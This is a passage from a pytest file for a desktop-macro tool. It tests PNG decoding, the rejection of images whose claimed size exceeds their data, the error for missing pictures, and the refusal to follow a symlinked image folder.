        decode(_claiming(width, height))


def test_a_picture_that_is_larger_than_its_data_is_refused():
    with pytest.raises(MacroError, match="damaged"):
        decode(_claiming(2000, 2000))


def test_a_picture_has_its_pixels():
    frame = decode(png(7, 5, 99))
    assert frame.pixels.shape == (5, 7, 4)
    assert (frame.pixels[:, :, :3] == 99).all()


def test_what_is_missing_is_not_packed():
    with pytest.raises(MacroError, match=f"the picture {PICTURE} is missing"):
        pack(Package(invoice(), {}))
    assert EVENTS == "events.bin"


MACRO = """\
deskhand: 1
name: Linked
steps:
  - {id: a, do: click, target: {image: img/a.png}}
"""
PNG = b"\x89PNG\r\n\x1a\n not shown here"


def folder(tmp_path):
    made = tmp_path / "given"
    made.mkdir()
    (made / "macro.yaml").write_text(MACRO)
    return made


def test_a_picture_beside_the_macro_is_read(tmp_path):
    made = folder(tmp_path)
    (made / "img").mkdir()
    (made / "img" / "a.png").write_bytes(PNG)
    assert read_source(made).image("img/a.png") == PNG


def test_a_folder_of_pictures_that_is_a_link_is_not_followed(tmp_path):
    made, private = folder(tmp_path), tmp_path / "private"
    private.mkdir()
    (private / "a.png").write_bytes(PNG)
    (made / "img").symlink_to(private)
    with pytest.raises(MacroError, match="is a link, and none is followed"):
        read_source(made).image("img/a.png")
    with pytest.raises(MacroError, match="is a link"):
        read_source(made / "macro.yaml").package()
